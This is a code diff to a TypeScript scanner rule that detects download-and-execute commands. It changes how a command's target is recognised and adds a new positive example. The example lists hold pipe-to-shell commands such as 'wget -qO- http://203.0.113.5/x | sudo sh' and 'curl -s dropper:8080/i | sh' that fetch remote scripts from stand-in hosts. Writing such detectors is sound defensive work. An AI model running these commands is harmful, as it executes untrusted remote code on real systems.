@@ -19,8 +19,8 @@ const PS_DOWNLOAD_INVOKE =
  * list of what a scanner detects, or "curl <url> | bash" in a usage comment, runs nothing.
  */
 function namesTarget(command: string): boolean {
-  const args = command.slice(0, command.lastIndexOf("|")).replace(/^\S+/, "");
-  return /[\w-]\.[a-z]{2,}\b|\$[{(\w]|\d+\.\d+\.\d+\.\d+/i.test(args.replace(/<[^>\s]*>/g, ""));
+  const args = command.slice(0, command.lastIndexOf("|")).replace(/^\S+/, "").replace(/<[^>\s]*>/g, "");
+  return args.split(/\s+/).some((a) => a !== "" && !/^-/.test(a) && !/^[`'"()]+$/.test(a));
 }
 
 function pipedDownloads(segment: Segment, known: boolean): Hit[] {
@@ -42,7 +42,7 @@ export const downloadExecuteRules: Rule[] = [
     keywords: ["curl", "wget", "fetch"],
     match: (segment) => pipedDownloads(segment, false),
     examples: {
-      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh"],
+      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh"],
       negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool", "- Download and execute (`curl | sh`)", "#   curl -sSL <url> | sudo bash"],
     },
   },
